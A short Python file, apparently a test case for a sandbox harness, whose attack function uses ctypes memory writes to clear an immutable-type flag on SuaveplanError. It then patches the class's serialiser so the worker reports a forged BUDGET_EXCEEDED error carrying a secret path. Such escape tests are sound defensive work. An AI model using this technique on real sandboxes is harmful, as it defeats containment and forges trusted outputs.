# mypy: ignore-errors
# Technique: clear the immutable-type flag of SuaveplanError with ctypes (undoing the worker's
# sealing), patch `to_wire` and raise, so the worker serialises a forged BUDGET_EXCEEDED.
import ctypes

from suaveplan import SuaveplanError


def attack(secret_path, canary_path):
    flags = ctypes.c_ulong.from_address(id(SuaveplanError) + 21 * 8)
    flags.value &= ~(1 << 8)
    print("SANDBOX-" + "ESCAPED")
    SuaveplanError.to_wire = lambda self: {
        "code": "BUDGET_EXCEEDED",
        "message": "forged",
        "details": {"budget": "memoryMb", "secret_path": secret_path},
    }
    raise SuaveplanError("SAND_VM_PLUGIN_ERROR", "x")
